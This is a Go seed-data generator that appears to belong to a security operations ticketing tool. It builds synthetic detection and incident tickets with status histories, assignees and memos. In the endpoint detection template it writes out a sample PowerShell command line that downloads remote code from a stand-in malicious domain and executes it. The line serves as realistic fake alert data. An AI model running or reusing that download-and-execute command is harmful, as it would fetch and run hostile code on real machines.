package seed

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"time"

	"socdesk/ent/category"
	"socdesk/ent/schema"
	"socdesk/ent/schematype"
	"socdesk/ent/ticket"
	"socdesk/ent/ticketevent"
)

// refs are the ids of the reference data tickets point at.
type refs struct {
	sites      []int
	siteNames  map[int]string
	categories []catRef
	byWorkflow map[category.Workflow][]int // indexes into categories
	editors    map[int][]int               // site id -> ids of people who may edit its tickets
	allEditors []int
	services   []int // service accounts registering SYSTEM tickets; detector first
	tags       []int
	logins     map[int]string
}

type catRef struct {
	id        int
	workflow  category.Workflow
	theme     theme
	detection float64
}

// genTicket is a generated ticket with its relations and history.
type genTicket struct {
	id                   int // 0 until stored, unless assigned up front
	createdAt, updatedAt time.Time
	title, body          string
	kind                 ticket.Kind
	bodyFormat           ticket.BodyFormat
	det                  *genDetection
	categoryID, siteID   int
	priority             ticket.Priority
	status               ticket.Status
	verdict              *ticket.AttackVerdict
	incident             bool
	origin               ticket.Origin
	registeredBy         *int
	duplicateCount       int
	closedAt             *time.Time
	assignees, approvers []int
	tags                 []int
	events               []genEvent
	memos                []genMemo
}

type genDetection struct {
	template            ticket.DetectionTemplate
	firstSeen, lastSeen time.Time
	srcIP, dstIP        string
	srcPort, dstPort    *int
	protocol, host      string
	custom              []schematype.CustomField
}

type genEvent struct {
	kind    ticketevent.Kind
	at      time.Time
	actor   *int
	changes []schematype.FieldChange
}

type genMemo struct {
	at     time.Time
	author *int
	body   string
}

// generator draws tickets. It is deterministic for a given seed and now.
type generator struct {
	rng  *rand.Rand
	now  time.Time
	span time.Duration // tickets are created within [now-span, now)
	refs *refs
	demo bool // demo shape: unassigned NEW/TRIAGE tickets, memos, richer bodies
}

func newGenerator(seed uint64, now time.Time, span time.Duration, r *refs, demo bool) *generator {
	return &generator{
		rng:  rand.New(rand.NewPCG(seed, seed^0x5eed5eed5eed5eed)),
		now:  now.UTC().Truncate(time.Second),
		span: span,
		refs: r,
		demo: demo,
	}
}

var (
	approvalStatuses = []ticket.Status{ticket.StatusNEW, ticket.StatusASSIGNED, ticket.StatusIN_PROGRESS,
		ticket.StatusSUBMITTED, ticket.StatusAPPROVED, ticket.StatusREJECTED, ticket.StatusCLOSED}
	irStatuses = []ticket.Status{ticket.StatusTRIAGE, ticket.StatusANALYSIS, ticket.StatusREMEDIATION,
		ticket.StatusRESOLVED, ticket.StatusCLOSED}
)

// workflowStatuses returns the statuses of a workflow.
func workflowStatuses(wf category.Workflow) []ticket.Status {
	if wf == category.WorkflowINCIDENT_RESPONSE {
		return irStatuses
	}
	return approvalStatuses
}

func (g *generator) pick(n int) int { return g.rng.IntN(n) }

func (g *generator) chance(p float64) bool { return g.rng.Float64() < p }

func pickOf[T any](g *generator, s []T) T { return s[g.rng.IntN(len(s))] }

// status draws the current status of a ticket of the given age (0 = now,
// 1 = the oldest): older tickets are more likely closed.
func (g *generator) status(wf category.Workflow, age float64) ticket.Status {
	if g.chance(0.15 + 0.7*age) {
		return ticket.StatusCLOSED
	}
	var open []ticket.Status
	var weights []float64
	if wf == category.WorkflowINCIDENT_RESPONSE {
		open = irStatuses[:4]
		weights = []float64{3, 3, 2, 2}
	} else {
		open = approvalStatuses[:6]
		weights = []float64{3, 3, 4, 2, 1.5, 1}
	}
	var sum float64
	for _, w := range weights {
		sum += w
	}
	x := g.rng.Float64() * sum
	for i, w := range weights {
		if x < w {
			return open[i]
		}
		x -= w
	}
	return open[len(open)-1]
}

// path returns the statuses a ticket went through, from its initial status to
// target. assignedAtCreation says whether an APPROVAL ticket was created with
// an assignee (and so started ASSIGNED).
func (g *generator) path(wf category.Workflow, target ticket.Status, assignedAtCreation bool) []ticket.Status {
	if wf == category.WorkflowINCIDENT_RESPONSE {
		p := []ticket.Status{ticket.StatusTRIAGE}
		switch target {
		case ticket.StatusTRIAGE:
			return p
		case ticket.StatusCLOSED:
			if g.chance(0.4) { // closed straight from triage: false positive or duplicate
				return append(p, ticket.StatusCLOSED)
			}
		}
		p = append(p, ticket.StatusANALYSIS)
		if target == ticket.StatusANALYSIS {
			return p
		}
		remediate := target == ticket.StatusREMEDIATION || g.chance(0.65)
		if remediate {
			p = append(p, ticket.StatusREMEDIATION)
			if target == ticket.StatusREMEDIATION {
				return p
			}
		}
		p = append(p, ticket.StatusRESOLVED)
		if target == ticket.StatusRESOLVED {
			return p
		}
		return append(p, ticket.StatusCLOSED)
	}

	if target == ticket.StatusNEW {
		return []ticket.Status{ticket.StatusNEW}
	}
	var p []ticket.Status
	if assignedAtCreation {
		p = []ticket.Status{ticket.StatusASSIGNED}
	} else {
		p = []ticket.Status{ticket.StatusNEW}
		if target == ticket.StatusCLOSED && g.chance(0.08) { // closed as duplicate before anyone took it
			return append(p, ticket.StatusCLOSED)
		}
		p = append(p, ticket.StatusASSIGNED)
	}
	if target == ticket.StatusASSIGNED {
		return p
	}
	p = append(p, ticket.StatusIN_PROGRESS)
	// Some tickets were rejected once and reworked.
	if target != ticket.StatusASSIGNED && g.chance(0.12) {
		p = append(p, ticket.StatusSUBMITTED, ticket.StatusREJECTED, ticket.StatusIN_PROGRESS)
	}
	if target == ticket.StatusIN_PROGRESS {
		return p
	}
	p = append(p, ticket.StatusSUBMITTED)
	switch target {
	case ticket.StatusSUBMITTED:
		return p
	case ticket.StatusAPPROVED, ticket.StatusREJECTED:
		return append(p, target)
	}
	// CLOSED: mostly after approval, sometimes after a final rejection.
	if g.chance(0.2) {
		return append(p, ticket.StatusREJECTED, ticket.StatusCLOSED)
	}
	return append(p, ticket.StatusAPPROVED, ticket.StatusCLOSED)
}

// distinct draws up to n distinct values of pool, skewed towards its start
// when skew is set (so that some tags are much more common than others).
func (g *generator) distinct(pool []int, n int, skew bool, exclude []int) []int {
	if len(pool) == 0 || n <= 0 {
		return nil
	}
	out := make([]int, 0, n)
	for tries := 0; len(out) < n && tries < 8*n+8; tries++ {
		var i int
		if skew {
			u := g.rng.Float64()
			i = int(u * u * float64(len(pool)))
		} else {
			i = g.rng.IntN(len(pool))
		}
		v := pool[i]
		if !slices.Contains(out, v) && !slices.Contains(exclude, v) {
			out = append(out, v)
		}
	}
	return out
}

func (g *generator) weighted(w ...int) int {
	sum := 0
	for _, x := range w {
		sum += x
	}
	r := g.rng.IntN(sum)
	for i, x := range w {
		if r < x {
			return i
		}
		r -= x
	}
	return len(w) - 1
}

func (g *generator) internalIP(siteID int) string {
	return fmt.Sprintf("10.%d.%d.%d", 10+siteID%200, g.pick(64), 2+g.pick(250))
}

func (g *generator) externalIP() string {
	return pickOf(g, extPrefixes) + fmt.Sprint(1+g.pick(254))
}

func (g *generator) hostname() string {
	return fmt.Sprintf("%s-%04d", pickOf(g, hostPrefixes), 1+g.pick(2000))
}

func (g *generator) personLogin(ids []int) string {
	if len(ids) > 0 && g.chance(0.3) {
		if l := g.refs.logins[pickOf(g, ids)]; l != "" {
			return l
		}
	}
	return strings.ToLower(pickOf(g, firstNames)[:1] + "." + pickOf(g, lastNames))
}

// spec forces the workflow, status or age of the next ticket; zero values
// mean draw at random.
type spec struct {
	workflow category.Workflow
	status   ticket.Status
	age      float64 // with hasAge: 0 = created now, 1 = created span ago
	hasAge   bool
}

// ticket generates the next ticket.
func (g *generator) ticket(sp spec) *genTicket {
	r := g.refs
	wf := sp.workflow
	var cat catRef
	if wf == "" {
		cat = r.categories[g.pick(len(r.categories))]
		wf = cat.workflow
	} else {
		cat = r.categories[pickOf(g, r.byWorkflow[wf])]
	}
	// Bigger sites produce more tickets.
	siteID := r.sites[int(float64(len(r.sites))*g.rng.Float64()*(0.4+0.6*g.rng.Float64()))]
	t := &genTicket{categoryID: cat.id, siteID: siteID}

	ageFrac := sp.age
	if !sp.hasAge {
		ageFrac = g.rng.Float64()
	}
	t.createdAt = g.now.Add(-time.Duration(ageFrac * float64(g.span))).Truncate(time.Second)

	t.status = sp.status
	if t.status == "" {
		t.status = g.status(wf, ageFrac)
	}

	t.kind = ticket.KindANALYSIS
	if g.chance(cat.detection) {
		t.kind = ticket.KindDETECTION
	}
	t.origin = ticket.OriginUSER
	if t.kind == ticket.KindDETECTION && g.chance(0.85) {
		t.origin = ticket.OriginSYSTEM
	}

	editors := r.editors[siteID]
	if len(editors) == 0 {
		editors = r.allEditors
	}
	if t.origin == ticket.OriginSYSTEM {
		svc := r.services[0]
		if !g.demo && len(r.services) > 1 && g.chance(0.5) {
			svc = pickOf(g, r.services[1:])
		}
		t.registeredBy = &svc
	} else {
		u := pickOf(g, editors)
		t.registeredBy = &u
	}

	// Assignees, and so the initial status of APPROVAL tickets.
	var nAssignees int
	if g.demo {
		switch {
		case t.status == ticket.StatusNEW:
		case t.status == ticket.StatusTRIAGE && g.chance(0.5):
		default:
			nAssignees = 1 + g.weighted(75, 25)
		}
	} else {
		nAssignees = 1 + g.weighted(60, 30, 10)
	}
	assignedAtCreation := wf == category.WorkflowAPPROVAL && t.status != ticket.StatusNEW &&
		nAssignees > 0 && t.origin == ticket.OriginUSER && g.chance(0.6)
	statuses := g.path(wf, t.status, assignedAtCreation)
	if g.demo && len(statuses) == 2 && statuses[0] == ticket.StatusNEW && statuses[1] == ticket.StatusCLOSED {
		nAssignees = 0 // closed as duplicate before assignment
	}
	t.assignees = g.distinct(editors, nAssignees, false, nil)

	needsApprover := false
	for _, s := range statuses {
		if s == ticket.StatusSUBMITTED {
			needsApprover = true
		}
	}
	if needsApprover {
		t.approvers = g.distinct(editors, 1+g.weighted(80, 20), false, t.assignees)
		if len(t.approvers) == 0 {
			t.approvers = g.distinct(r.allEditors, 1, false, t.assignees)
		}
	} else if !g.demo && wf == category.WorkflowAPPROVAL && g.chance(0.15) {
		// Approver designated up front.
		t.approvers = g.distinct(editors, 1, false, t.assignees)
	}
	nTags := g.weighted(35, 35, 20, 10)
	t.tags = g.distinct(r.tags, nTags, true, nil)

	t.priority = pickOf(g, []ticket.Priority{pHigh, pMed, pMed, pLow, pLow})
	if wf == category.WorkflowINCIDENT_RESPONSE && g.chance(0.4) {
		t.priority = pHigh
	}

	d := &details{
		host:    g.hostname(),
		intIP:   g.internalIP(siteID),
		extIP:   g.externalIP(),
		domain:  pickOf(g, badDomains),
		sender:  pickOf(g, senderAddrs),
		malware: pickOf(g, malwareNames),
		actor:   pickOf(g, actorNames),
		cve:     pickOf(g, cveIDs),
		site:    r.siteNames[siteID],
		port:    pickOf(g, []int{443, 8443, 22, 3389, 1433, 5432}),
		n:       2 + g.pick(300),
	}
	d.user = g.personLogin(slices.Concat(t.assignees, editors))
	if t.kind == ticket.KindDETECTION {
		g.detection(t, cat, d)
	} else {
		g.analysis(t, cat, d)
	}

	g.verdict(t, wf, statuses)
	g.history(t, wf, statuses, editors)
	if g.demo && len(t.events) > 1 && g.chance(0.4) {
		g.memos(t, d, editors)
	}
	return t
}

func (g *generator) detection(t *genTicket, cat catRef, d *details) {
	sc := pickOf(g, scenarios)
	for cat.theme == themePhishing && sc.template != tEmail {
		sc = pickOf(g, scenarios)
	}
	d.rule = sc.rule
	if sc.port != 0 {
		d.port = sc.port
	}
	t.title = expand(sc.title, d)
	summary := expand(sc.summary, d)
	if t.origin == ticket.OriginSYSTEM {
		t.priority = sc.priority
		if g.chance(0.2) {
			t.priority = pickOf(g, []ticket.Priority{pHigh, pMed, pLow})
		}
		b, _ := json.Marshal(struct {
			Rule     string `json:"rule"`
			Severity string `json:"severity"`
			Summary  string `json:"summary"`
		}{sc.rule, strings.ToLower(string(t.priority)), summary})
		t.body, t.bodyFormat = string(b), ticket.BodyFormatJSON
	} else {
		t.body, t.bodyFormat = summary, ticket.BodyFormatTEXT
		if g.demo {
			t.body = summary + "\n\nRaised manually after reviewing the " + sc.rule + " alert."
		}
	}

	det := &genDetection{template: sc.template}
	det.firstSeen = t.createdAt.Add(-time.Duration(1+g.pick(30)) * time.Minute)
	det.lastSeen = det.firstSeen
	if t.origin == ticket.OriginSYSTEM && g.chance(0.3) {
		t.duplicateCount = 1 + g.weighted(50, 25, 15, 10)*g.pick(20)
		det.lastSeen = det.firstSeen.Add(time.Duration(5+g.pick(48*60)) * time.Minute)
		if det.lastSeen.After(g.now) {
			det.lastSeen = g.now
		}
	}
	switch sc.template {
	case tNet:
		det.host = d.host
		det.protocol = sc.protocol
		eph := 49152 + g.pick(16384)
		port := d.port
		switch {
		case sc.inbound:
			det.srcIP, det.dstIP = d.extIP, d.intIP
		case sc.lateral:
			det.srcIP, det.dstIP = d.intIP, g.internalIP(t.siteID)
		default:
			det.srcIP, det.dstIP = d.intIP, d.extIP
		}
		det.srcPort, det.dstPort = &eph, &port
		det.custom = []schematype.CustomField{
			{Key: "sensor", Value: pickOf(g, sensors)},
			{Key: "signature", Value: sc.rule},
			{Key: "bytes_out", Value: fmt.Sprint(200 + g.pick(5_000_000))},
		}
	case tEnd:
		det.host = d.host
		det.srcIP = d.intIP
		proc := pickOf(g, processes)
		det.custom = []schematype.CustomField{
			{Key: "process", Value: proc},
			{Key: "parent_process", Value: pickOf(g, parents)},
			{Key: "user", Value: `CORP\` + d.user},
			{Key: "sha256", Value: fmt.Sprintf("%016x%016x%016x%016x", g.rng.Uint64(), g.rng.Uint64(), g.rng.Uint64(), g.rng.Uint64())},
		}
		if g.chance(0.5) {
			det.custom = append(det.custom, schematype.CustomField{Key: "command_line", Value: proc + " -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://" + d.domain + "/a')\""})
		}
	case tEmail:
		det.protocol = sc.protocol
		det.srcIP = d.extIP
		det.host = "mx1.corp.example.com"
		port := sc.port
		det.dstPort = &port
		det.custom = []schematype.CustomField{
			{Key: "sender", Value: d.sender},
			{Key: "recipient", Value: d.user + "@corp.example.com"},
			{Key: "subject", Value: pickOf(g, []string{"Invoice overdue", "Your password expires today", "Shared document: Q3 budget", "Urgent wire transfer", "Voicemail received"})},
			{Key: "message_id", Value: fmt.Sprintf("<%x@%s>", g.rng.Uint64(), strings.SplitN(d.sender, "@", 2)[1])},
		}
	}
	t.det = det
}

func (g *generator) analysis(t *genTicket, cat catRef, d *details) {
	d.rule = pickOf(g, scenarios).rule
	txt := pickOf(g, analysisTexts[cat.theme])
	t.title = expand(txt.title, d)
	summary := expand(txt.summary, d)
	t.bodyFormat = ticket.BodyFormatMARKDOWN
	if !g.demo {
		t.body = "## Summary\n" + summary
		return
	}
	var b strings.Builder
	b.WriteString("## Summary\n")
	b.WriteString(summary)
	b.WriteString("\n\n## Scope\n- Site: ")
	b.WriteString(d.site)
	b.WriteString("\n- Hosts: `")
	b.WriteString(d.host)
	b.WriteString("`\n\n## Next steps\n")
	for _, s := range g.distinctStrings(nextSteps, 2+g.pick(2)) {
		b.WriteString("- [ ] ")
		b.WriteString(s)
		b.WriteString("\n")
	}
	t.body = b.String()
}

func (g *generator) distinctStrings(pool []string, n int) []string {
	idx := g.rng.Perm(len(pool))[:n]
	out := make([]string, n)
	for i, j := range idx {
		out[i] = pool[j]
	}
	return out
}

func (g *generator) verdict(t *genTicket, wf category.Workflow, statuses []ticket.Status) {
	set := func(v ticket.AttackVerdict) { t.verdict = &v }
	has := func(s ticket.Status) bool { return slices.Contains(statuses, s) }
	if wf == category.WorkflowINCIDENT_RESPONSE {
		switch {
		case has(ticket.StatusREMEDIATION):
			set(ticket.AttackVerdictTRUE_POSITIVE)
			t.incident = t.priority == pHigh || g.chance(0.5)
		case t.status == ticket.StatusCLOSED && !has(ticket.StatusANALYSIS):
			set(ticket.AttackVerdictFALSE_POSITIVE)
		case has(ticket.StatusANALYSIS):
			if g.chance(0.5) {
				set(ticket.AttackVerdictTRUE_POSITIVE)
				t.incident = g.chance(0.3)
			} else if g.chance(0.5) {
				set(ticket.AttackVerdictFALSE_POSITIVE)
			}
		}
		return
	}
	if t.kind != ticket.KindDETECTION || !has(ticket.StatusIN_PROGRESS) {
		return
	}
	switch g.weighted(30, 55, 15) {
	case 0:
		set(ticket.AttackVerdictTRUE_POSITIVE)
		t.incident = g.chance(0.25)
	case 1:
		set(ticket.AttackVerdictFALSE_POSITIVE)
	}
}

// stepMean is the mean time a ticket spends before moving to status s.
func stepMean(s ticket.Status) time.Duration {
	switch s {
	case ticket.StatusASSIGNED, ticket.StatusANALYSIS:
		return 3 * time.Hour
	case ticket.StatusIN_PROGRESS:
		return 8 * time.Hour
	case ticket.StatusSUBMITTED, ticket.StatusREMEDIATION:
		return 40 * time.Hour
	case ticket.StatusAPPROVED, ticket.StatusREJECTED:
		return 16 * time.Hour
	case ticket.StatusRESOLVED:
		return 60 * time.Hour
	case ticket.StatusCLOSED:
		return 24 * time.Hour
	}
	return 12 * time.Hour
}

// history fills the ticket's events, times, version and closed_at from its
// status path.
func (g *generator) history(t *genTicket, wf category.Workflow, statuses []ticket.Status, editors []int) {
	k := len(statuses) - 1
	// Leave room for the transitions before now.
	if latest := g.now.Add(-time.Duration(k+1) * 20 * time.Minute); t.createdAt.After(latest) {
		t.createdAt = latest
	}
	gaps := make([]time.Duration, k)
	var total time.Duration
	for i := range k {
		gaps[i] = 2*time.Minute + time.Duration(g.rng.ExpFloat64()*float64(stepMean(statuses[i+1])))
		total += gaps[i]
	}
	if room := g.now.Sub(t.createdAt) - 10*time.Minute; total > room {
		// Compress the history to fit between creation and now.
		f := float64(room) / float64(total)
		for i := range gaps {
			gaps[i] = max(time.Duration(float64(gaps[i])*f), time.Minute)
		}
	}

	t.events = make([]genEvent, 0, k+1)
	t.events = append(t.events, genEvent{
		kind:  ticketevent.KindCREATED,
		at:    t.createdAt,
		actor: t.registeredBy,
		changes: []schematype.FieldChange{
			{Field: "status", From: nil, To: string(statuses[0])},
			{Field: "title", From: nil, To: t.title},
		},
	})
	at := t.createdAt
	for i := 1; i <= k; i++ {
		at = at.Add(gaps[i-1]).Truncate(time.Second)
		if !at.After(t.events[i-1].at) {
			at = t.events[i-1].at.Add(time.Second)
		}
		to := statuses[i]
		t.events = append(t.events, genEvent{
			kind:    ticketevent.KindTRANSITIONED,
			at:      at,
			actor:   g.actor(t, statuses[i-1], to, editors),
			changes: []schematype.FieldChange{{Field: "status", From: string(statuses[i-1]), To: string(to)}},
		})
	}
	t.updatedAt = at
	if t.status == ticket.StatusCLOSED {
		c := at
		t.closedAt = &c
	}
}

func (g *generator) actor(t *genTicket, from, to ticket.Status, editors []int) *int {
	one := func(ids []int) *int {
		if len(ids) == 0 {
			ids = editors
		}
		v := pickOf(g, ids)
		return &v
	}
	switch to {
	case ticket.StatusASSIGNED:
		if t.origin == ticket.OriginUSER && t.registeredBy != nil {
			return t.registeredBy
		}
		return one(editors)
	case ticket.StatusAPPROVED, ticket.StatusREJECTED:
		return one(t.approvers)
	case ticket.StatusCLOSED:
		if from == ticket.StatusAPPROVED || from == ticket.StatusREJECTED {
			return one(t.approvers)
		}
	}
	return one(t.assignees)
}

func (g *generator) memos(t *genTicket, d *details, editors []int) {
	n := 1 + g.weighted(70, 30)
	span := t.updatedAt.Sub(t.createdAt)
	for range n {
		at := t.createdAt.Add(time.Duration(g.rng.Float64() * float64(span))).Truncate(time.Second)
		if !at.After(t.createdAt) {
			at = t.createdAt.Add(time.Second)
		}
		if at.After(t.updatedAt) {
			at = t.updatedAt
		}
		author := t.assignees
		if len(author) == 0 {
			author = editors
		}
		a := pickOf(g, author)
		t.memos = append(t.memos, genMemo{at: at, author: &a, body: expand(pickOf(g, memoTexts), d)})
	}
	slices.SortFunc(t.memos, func(a, b genMemo) int { return a.at.Compare(b.at) })
}

// priorityRank is the sort key of a priority, as the Ticket hook computes it
// (HIGH first); COPY bypasses the hook, so it is set here.
func priorityRank(p ticket.Priority) int8 { return schema.PriorityRank(string(p)) }
